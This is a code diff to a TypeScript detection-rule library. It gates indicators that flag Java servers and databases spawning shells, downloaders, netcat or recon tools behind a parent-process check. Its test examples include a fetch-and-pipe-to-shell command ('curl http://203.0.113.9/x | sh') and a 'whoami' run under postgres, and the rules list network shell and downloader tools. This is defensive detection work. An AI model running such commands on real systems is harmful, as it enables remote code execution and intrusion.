@@ -2,6 +2,7 @@ import type { Indicator } from "../../indicator.ts";
 import { withoutVersion } from "../execution/calls.ts";
 import { connected, inContainer, onHost, ran } from "../execution/examples.ts";
 import { databases, downloaders, javaServers, netcats, shells } from "../execution/programs.ts";
+import { behind } from "../gates.ts";
 import { isStart, parentIn } from "./served-programs.ts";
 
 /** What other servers start or load that they should not. */
@@ -69,7 +70,7 @@ export const javaServerSpawnsProgram: Indicator = {
   platforms: ["Linux", "Containers"],
   families: ["syscall"],
   source: "https://attack.mitre.org/techniques/T1190/",
-  match: (facts) => {
+  match: behind({ parents: javaServers }, (facts) => {
     const name = facts.process.name === null ? "" : withoutVersion(facts.process.name);
     const isTool =
       shells.has(name) ||
@@ -77,7 +78,7 @@ export const javaServerSpawnsProgram: Indicator = {
       netcats.has(name) ||
       ["whoami", "id", "uname", "python", "perl"].includes(name);
     return isStart(facts) && isTool ? parentIn(facts, javaServers) : null;
-  },
+  }),
   examples: {
     found: [
       ran("sh -c curl http://203.0.113.9/x | sh", { "proc.pname": "java", ...inContainer }),
@@ -100,10 +101,10 @@ export const databaseSpawnsProgram: Indicator = {
   platforms: ["Linux", "Containers"],
   families: ["syscall"],
   source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-incubating_rules.yaml",
-  match: (facts) => {
+  match: behind({ parents: databases }, (facts) => {
     const { name } = facts.process;
     return isStart(facts) && name !== null && !databaseHelpers.has(name) ? parentIn(facts, databases) : null;
-  },
+  }),
   examples: {
     found: [
       ran("sh -c whoami", { "proc.pname": "postgres", ...inContainer }),
@@ -130,12 +131,12 @@ export const serverRunsIntrudersTool: Indicator = {
   platforms: ["Linux", "Containers"],
   families: ["syscall"],
   source: "https://attack.mitre.org/techniques/T1190/",
-  match: (facts) => {
+  match: behind({ parents: new Set([...javaServers, ...databases]) }, (facts) => {
     const parent = parentIn(facts, javaServers) ?? parentIn(facts, databases);
     if (parent === null || !isStart(facts)) return null;
     const isTelling = facts.process.command.commands.some(({ program }) => telling.has(withoutVersion(program)));
     return isTelling ? parent : null;
-  },
+  }),
   examples: {
     found: [
       ran("sh -c curl http://203.0.113.9/x | sh", { "proc.pname": "java", ...inContainer }),
